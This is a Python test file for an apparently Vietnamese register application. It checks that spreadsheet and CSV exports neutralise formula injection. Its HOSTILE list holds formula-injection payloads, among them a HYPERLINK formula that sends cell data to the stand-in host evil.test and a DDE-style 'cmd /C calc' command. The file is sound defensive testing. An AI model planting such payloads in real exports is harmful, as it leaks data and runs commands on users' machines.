"""Exports never carry a live formula (issue 12.6): a requester named '=HYPERLINK(…)' or an audit
summary '+cmd…' is written as text in every XLSX, and the CSV rule prefixes an apostrophe."""
from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from domain.text import csv_safe, looks_like_formula

HOSTILE = ['=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def formulas_in(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def cells(xlsx: bytes) -> list:
    wb = load_workbook(io.BytesIO(xlsx))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_formula_like_text_is_recognised():
    assert all(looks_like_formula(v) for v in HOSTILE)
    assert not any(looks_like_formula(v) for v in ("Nguyễn Văn An", "1/ĐT", 5, None, "a=b"))
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("An") == "An" and csv_safe(7) == 7


def test_monthly_register_xlsx_writes_a_hostile_requester_as_text():
    from app.register_print import monthly_xlsx
    from domain.models import Office
    from domain.register import RegisterRow

    at = datetime(2025, 3, 3, 3, tzinfo=UTC)
    rows = [RegisterRow(id=i, year=2025, number=i + 1, number_text=f"{i + 1}/ĐT", book="01/2025-SCTĐT/BS",
                        issued_at=at, requester_name=name, requester_id_number="001099012345",
                        document_title=name, issuer=name, pages=1, copies=1, fee=2000, signer_name=name,
                        notes="") for i, name in enumerate(HOSTILE)]
    xlsx = monthly_xlsx(Office(id=1, name="=cmd|' /C calc'!A0"), 2025, 3, rows)
    assert formulas_in(xlsx) == []
    found = [c.value for c in cells(xlsx)]
    for value in HOSTILE:
        assert value in found
    assert all(c.data_type == "s" for c in cells(xlsx) if looks_like_formula(c.value))


def test_audit_xlsx_writes_hostile_values_as_text():
    from app.reports.audit_export import audit_xlsx
    from domain.models import AuditEvent

    events = [AuditEvent(id=i, at=datetime(2025, 3, 3, tzinfo=UTC), actor_name=v, action="sign_in",
                         target_type="account", target_id=v, summary=v, client_addr=v, hash="ab" * 32)
              for i, v in enumerate(HOSTILE)]
    xlsx = audit_xlsx(events)
    assert formulas_in(xlsx) == []
    assert sum(1 for c in cells(xlsx) if c.value in HOSTILE) >= 4 * len(HOSTILE)


@pytest.mark.parametrize("name", HOSTILE[:2])
def test_stats_xlsx_writes_a_hostile_official_name_as_text(name):
    from types import SimpleNamespace

    from app.register_print import stats_xlsx

    s = SimpleNamespace(date_from=datetime(2025, 1, 1), date_to=datetime(2025, 1, 31), entries=1, copies=1,
                        pages=1, dossiers_issued=1, fees_collected=0, payments=0, refused=0, steps={},
                        refusals_by_ground={}, per_day=[],
                        officials=[SimpleNamespace(name=name, created=1, signed=0, sealed=0)])
    xlsx = stats_xlsx(name, s)
    assert formulas_in(xlsx) == []
